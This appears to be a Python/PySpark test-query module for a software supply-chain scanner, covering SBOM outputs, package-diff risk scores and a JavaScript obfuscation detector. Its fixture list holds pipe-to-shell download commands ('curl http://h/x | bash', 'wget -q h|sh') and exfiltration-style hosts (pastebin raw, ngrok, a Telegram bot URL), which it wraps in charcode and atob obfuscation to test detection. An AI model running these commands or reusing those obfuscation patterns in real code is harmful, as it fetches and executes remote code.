"""Queries over whole documents of reports, scored differences and the second pass over code, and their SQL."""

from __future__ import annotations

from pyspark.sql import Window
from pyspark.sql import functions as F

from ..functions import second_pass as J
from ..operators.analysis import lexed
from ..operators import reports as RP
from ..operators import snapshots as SN
from ..shared import spread
from . import derived as D
from .rule_queries import pick, q, sql_list, sql_pick

KEY = ["ecosystem", "name", "version"]


def _bill(spark, d):
    """Dependencies with licences, hashes, and keys of what they depend on: a project's direct ones."""
    deps = spread(D.dependencies(spark, d).select("project", *KEY, "direct"), "project").distinct()
    number = F.substring("name", 5, 20).cast("long")
    deps = deps.withColumns({
        "license": pick(["MIT", "", "ISC"], number),
        "integrity": F.when(number % 4 == 0, F.concat(F.lit("sha512-"), F.base64(F.encode("name", "UTF-8")))).when(number % 4 == 1, F.concat(F.lit("sha1-"), F.base64(F.encode("version", "UTF-8")))).when(number % 4 == 2, "md5-AAAA").otherwise(""),
    })
    keys = F.collect_set(F.when(F.col("direct"), RP.versioned_key())).over(Window.partitionBy("project"))
    return deps.withColumn("depends_on", F.when(~F.col("direct"), F.concat(keys, F.array(F.lit("npm/none@0")))))


def _cyclonedx(spark, d, field: str, schema: str):
    docs = RP.cyclonedx(_bill(spark, d), D.advisories(spark, d), "project", "2024-01-01T00:00:00Z", "urn:uuid:0")
    return docs.select("project", F.explode(F.from_json("document", f"{field} array<{schema}>")[field]).alias("x"))


def cyclonedx_components(spark, d):
    rows = _cyclonedx(spark, d, "components", "struct<`bom-ref`:string,type:string,name:string,version:string,purl:string,scope:string,hashes:array<struct<alg:string,content:string>>,licenses:array<struct<license:struct<id:string>>>>")
    return rows.select("project", F.col("x.bom-ref").alias("ref"), "x.name", "x.version", "x.purl", "x.scope", F.get("x.hashes", F.lit(0))["alg"].alias("alg"), F.get("x.hashes", F.lit(0))["content"].alias("content"), F.get("x.licenses", F.lit(0))["license"]["id"].alias("license"))


def cyclonedx_edges(spark, d):
    return _cyclonedx(spark, d, "dependencies", "struct<ref:string,dependsOn:array<string>>").select("project", "x.ref", F.explode_outer("x.dependsOn").alias("child"))


def cyclonedx_vulnerabilities(spark, d):
    rows = _cyclonedx(spark, d, "vulnerabilities", "struct<id:string,source:struct<name:string>,ratings:array<struct<severity:string>>,description:string,affects:array<struct<ref:string>>>")
    return rows.select("project", "x.id", F.col("x.source.name").alias("source"), F.get("x.ratings", F.lit(0))["severity"].alias("severity"), "x.description", F.get("x.affects", F.lit(0))["ref"].alias("ref"))


def _spdx(spark, d, field: str, schema: str):
    docs = RP.spdx(_bill(spark, d), "project", "2024-01-01T00:00:00Z", D.advisories(spark, d))
    return docs.select("project", F.explode(F.from_json("document", f"{field} array<{schema}>")[field]).alias("x"))


def spdx_packages(spark, d):
    rows = _spdx(spark, d, "packages", "struct<SPDXID:string,name:string,versionInfo:string,licenseDeclared:string,externalRefs:array<struct<referenceCategory:string,referenceLocator:string>>>")
    rows = rows.select("project", F.col("x.SPDXID").alias("spdx_id"), F.col("x.versionInfo").alias("version"), F.col("x.licenseDeclared").alias("license"), F.explode_outer("x.externalRefs").alias("r"))
    return rows.select("project", "spdx_id", "version", "license", F.col("r.referenceCategory").alias("category"), F.col("r.referenceLocator").alias("locator"))


def spdx_relationships(spark, d):
    rows = _spdx(spark, d, "relationships", "struct<spdxElementId:string,relationshipType:string,relatedSpdxElement:string>")
    return rows.select("project", F.col("x.spdxElementId").alias("element"), F.col("x.relationshipType").alias("kind"), F.col("x.relatedSpdxElement").alias("related"))


def diff_scores(spark, d):
    """Two snapshots of the parts' packages, fingerprints and advisories by their numbers."""
    p = D.table(spark, d, "part").selectExpr("p_partkey", "p_size", f"{D._ECO.format('p_partkey')} as ecosystem", "concat('pkg-', p_partkey) as name")
    prev = p.where("p_partkey % 7 <> 0").selectExpr(
        "ecosystem", "name", "'1.2.3' as version", "p_partkey as o", "p_size % 6 <> 0 as analyzed", "array_compact(array(if(p_size % 4 = 1, 'shell-spawn', null), 'dynamic-eval')) as capabilities", "0 as n_hooks",
        "array('PATH') as env_reads", "map('prepare', 'bb') as hooks", "cast(10 as bigint) as size", "'' as provenance_status", "'used' as reachability", "cast(null as int) as severity")
    nxt = p.where("p_partkey % 11 <> 0").selectExpr(
        "ecosystem", "name", "element_at(array('1.2.4', '1.3.0', '1.2.3'), cast(p_size % 3 + 1 as int)) as version", "p_partkey as o", "p_partkey % 13 <> 0 as analyzed",
        "array_compact(array('dynamic-eval', if(p_size % 2 = 1, 'shell-spawn', null), if(p_size % 5 = 0, 'net-egress', null), if(p_partkey % 4 < 2, 'install-hook-exec', null))) as capabilities", "if(p_partkey % 4 = 1, 2, 1) as n_hooks",
        "array('PATH') as env_reads", "if(p_partkey % 4 = 1, map('prepare', 'bb', 'install', 'aa'), map('prepare', if(p_partkey % 4 = 2, 'cc', 'bb'))) as hooks", "cast(10 + p_size % 4 * 5 as bigint) as size",
        "if(p_size % 4 = 0, 'missing', 'verified') as provenance_status", "if(p_partkey % 2 = 0, 'unused', 'used') as reachability", "cast(nullif(p_size % 5, 0) as int) as severity")
    got = SN.score_diff(prev, nxt, D.allow_rules(spark), "o")
    return got.select("name", "kind", "old_version", "new_version", *[F.col(c).cast("long").alias(c) for c in ("risk_score", "drift_score", "verdict")])


STRINGS = [
    "https://pastebin.com/raw/x", "https://example.com/raw/x", "ngrok.io", "discord.com", "curl http://h/x | bash", "curl http://h/x", "wget -q h|sh", "echo x | sh", "CURL h | ZSH", "ipinfo", "https://api.telegram.org/bot1", "plain words",
]
SINKS = ["eval", "Function", "exec", "spawnSync", "fetch", "XMLHttpRequest", "execute", "my.eval", "medieval", "console.log", "execSync", "spawn"]


def _script(s, sink, form, k: int = 6):
    codes = F.array_join(F.transform(F.sequence(F.lit(1), F.length(s)), lambda i: F.ascii(F.substring(s, i, F.lit(1))).cast("string")), ", ")
    shapes = [
        F.concat(F.lit("var u = 1, a = ["), codes, F.lit("];\nuse(a)")), F.concat(F.lit("go(String.fromCharCode("), codes, F.lit("))")), F.concat(F.lit("const a = ["), codes, F.lit("]\nlet b = String.fromCharCode(...a);")),
        F.concat(F.lit("const a = \""), s, F.lit("\"; atob")), F.concat(F.lit("const v = atob(\"eA==\"), w = 2;\n"), sink, F.lit(" ( x, v ) // atob")), F.concat(F.lit("const v = Buffer.from(x, 'utf8');\n"), sink, F.lit("(v)")),
    ]
    return F.element_at(F.array(*shapes), (form % k + 1).cast("int"))


def js_second_pass(spark, d):
    """Whole documents as comments of scripts that spell strings by numbers, or pass decoded values on."""
    n = len(STRINGS)
    script = _script(pick(STRINGS, F.col("doc_id")), pick(SINKS, F.col("doc_id")), F.expr(f"doc_id div {n}"))
    body = F.concat(F.lit("/* "), F.replace(F.regexp_replace(F.coalesce("text", F.lit("")), r"[^A-Za-z\s]", ""), F.lit("\n"), F.lit(" ")), F.lit(" */\n"), script)
    files = D.table(spark, d, "documents").select("doc_id", F.lit("x.js").alias("path"), body.alias("body"))
    return lexed(files).select("doc_id", F.explode(J.second_pass(F.col("code"), F.col("language"))).alias("capability"))


NAMES = [cyclonedx_components, cyclonedx_edges, cyclonedx_vulnerabilities, spdx_packages, spdx_relationships, diff_scores, js_second_pass]
QUERIES = {f.__name__: f for f in NAMES}
_PURL = "'pkg:' || CASE ecosystem WHEN 'crates' THEN 'cargo' WHEN 'go' THEN 'golang' WHEN 'rubygems' THEN 'gem' ELSE ecosystem END || '/' || name || '@' || version"


def oracles(deps: str, advs: str) -> dict[str, str]:
    bill = f"""{deps}, {advs}, b AS (SELECT DISTINCT project, ecosystem, name, version, direct, l_partkey AS k, {_PURL} AS ref FROM deps)"""
    pid = "'SPDXRef-Package-' || regexp_replace(ecosystem || '-' || name || '-' || version, '[^A-Za-z0-9.-]', '-', 'g')"
    hosts, bare, pipes = sql_list(J.HOSTS), sql_list(sorted({h.split("/")[0] for h in J.HOSTS})), sql_list(J.PIPES)
    sinks = " ".join(f"WHEN {q(k)} THEN {q(v)}" for k, v in J.SINKS.items())
    n = len(STRINGS)
    return {
        "cyclonedx_components": f"""WITH {bill} SELECT project, ref, name, version, ref AS purl, CASE WHEN direct THEN 'required' ELSE 'optional' END AS scope, CASE k % 4 WHEN 0 THEN 'SHA-512' WHEN 1 THEN 'SHA-1' END AS alg,
 CASE k % 4 WHEN 0 THEN lower(hex(encode(name))) WHEN 1 THEN lower(hex(encode(version))) END AS content, CASE k % 3 WHEN 0 THEN 'MIT' WHEN 2 THEN 'ISC' END AS license FROM b""",
        "cyclonedx_edges": f"""WITH {bill}, e AS (SELECT DISTINCT x.project, x.ref, y.ref AS child FROM b x JOIN b y ON y.project = x.project AND y.direct WHERE NOT x.direct)
SELECT DISTINCT project, 'root' AS ref, ref AS child FROM b WHERE direct UNION ALL SELECT DISTINCT project, 'root', NULL FROM b WHERE project NOT IN (SELECT project FROM b WHERE direct)
UNION ALL SELECT * FROM e UNION ALL SELECT DISTINCT project, ref, NULL FROM b WHERE (project, ref) NOT IN (SELECT project, ref FROM e)""",
        "cyclonedx_vulnerabilities": f"WITH {bill} SELECT DISTINCT project, id, 'osv' AS source, severity, summary AS description, ref FROM b JOIN advs USING (ecosystem, name)",
        "spdx_packages": f"""WITH {bill}, r AS (SELECT DISTINCT project, ecosystem, name, version, {pid} AS spdx_id, ref, CASE k % 3 WHEN 0 THEN 'MIT' WHEN 2 THEN 'ISC' ELSE 'NOASSERTION' END AS license FROM b)
SELECT project, spdx_id, version, license, 'PACKAGE-MANAGER' AS category, ref AS locator FROM r UNION ALL SELECT DISTINCT project, spdx_id, version, license, 'SECURITY', id FROM r JOIN advs USING (ecosystem, name)
UNION ALL SELECT DISTINCT project, 'SPDXRef-Package-' || project, 'NOASSERTION', 'NOASSERTION', NULL, NULL FROM r""",
        "spdx_relationships": f"""WITH {bill} SELECT DISTINCT project, 'SPDXRef-Package-' || project AS element, CASE WHEN direct THEN 'DEPENDS_ON' ELSE 'DYNAMIC_LINK' END AS kind, {pid} AS related FROM b
UNION ALL SELECT DISTINCT project, 'SPDXRef-DOCUMENT', 'DESCRIBES', 'SPDXRef-Package-' || project FROM b""",
        "diff_scores": """WITH p AS (SELECT p_partkey AS k, p_size AS s, ['npm','pypi','crates','go','maven','rubygems'][CAST(p_partkey % 6 + 1 AS INT)] AS e, 'pkg-' || p_partkey AS name, ['1.2.4', '1.3.0', '1.2.3'][CAST(p_size % 3 + 1 AS INT)] AS nv FROM part),
x AS (SELECT *, k % 7 <> 0 AS was FROM p WHERE k % 11 <> 0), y AS (SELECT *, CASE WHEN was THEN 'upgraded' ELSE 'added' END AS kind, k % 13 <> 0 AS a, was AND s % 6 <> 0 AND k % 13 <> 0 AS pair FROM x WHERE NOT was OR nv <> '1.2.3'),
z AS (SELECT *, e = 'npm' AND k = 6 AS free, (CASE WHEN s % 2 = 1 AND s % 4 <> 1 THEN 1 ELSE 0 END) + (CASE WHEN s % 5 = 0 THEN 1 ELSE 0 END) AS gained, CASE WHEN k % 4 < 2 THEN 1 ELSE 0 END AS gained_hook FROM y),
r AS (SELECT *, CASE WHEN free THEN 0 ELSE 15 END + CASE WHEN s % 2 = 1 AND NOT free AND NOT (e = 'pypi' AND k = 7) THEN 10 ELSE 0 END + CASE WHEN s % 5 = 0 AND NOT free THEN 8 ELSE 0 END + CASE WHEN k % 4 = 1 THEN 60 ELSE 30 END
   + CASE WHEN e = 'npm' AND s % 4 = 0 THEN 10 ELSE 0 END + CASE WHEN pair AND nv = '1.2.4' AND gained + gained_hook > 0 AND NOT free THEN 35 ELSE 0 END AS risk,
  CASE WHEN pair THEN 15 * gained + CASE WHEN k % 4 = 1 THEN 30 WHEN k % 4 = 2 THEN 30 ELSE 0 END + CASE WHEN s % 4 >= 2 THEN 5 ELSE 0 END ELSE 0 END AS drift,
  greatest(0, CASE s % 5 WHEN 4 THEN 3 WHEN 3 THEN 3 WHEN 2 THEN 2 WHEN 1 THEN 1 ELSE 0 END - CASE WHEN k % 2 = 0 THEN 1 ELSE 0 END) AS known FROM z)
SELECT name, kind, CASE WHEN was THEN '1.2.3' END AS old_version, nv AS new_version, CAST(risk AS BIGINT) AS risk_score, CAST(drift AS BIGINT) AS drift_score,
 CAST(greatest(known, CASE WHEN greatest(risk, drift) >= 100 THEN 3 WHEN greatest(risk, drift) >= 61 THEN 2 WHEN greatest(risk, drift) >= 21 THEN 1 ELSE 0 END) AS BIGINT) AS verdict FROM r""",
        "js_second_pass": f"""WITH d AS (SELECT doc_id, doc_id // {n} % 6 AS form, lower({sql_pick(STRINGS, 'doc_id')}) AS s, {sql_pick(SINKS, 'doc_id')} AS sink FROM documents),
f AS (SELECT *, (len(list_filter({hosts}, lambda h: contains(s, h))) > 0 AND contains(s, '://')) OR len(list_filter({bare}, lambda h: contains(s, h))) > 0 AS url, (contains(s, 'curl') OR contains(s, 'wget')) AND len(list_filter({pipes}, lambda h: contains(s, h))) > 0 AS cmd FROM d)
SELECT doc_id, 'suspicious-url' AS capability FROM f WHERE form < 3 AND url UNION ALL SELECT doc_id, 'install-hook-suspicious' FROM f WHERE form < 3 AND cmd
UNION ALL SELECT doc_id, CASE split_part(sink, '.', -1) {sinks} END FROM f WHERE form = 4 AND split_part(sink, '.', -1) IN ({', '.join(map(q, J.SINKS))})""",
    }
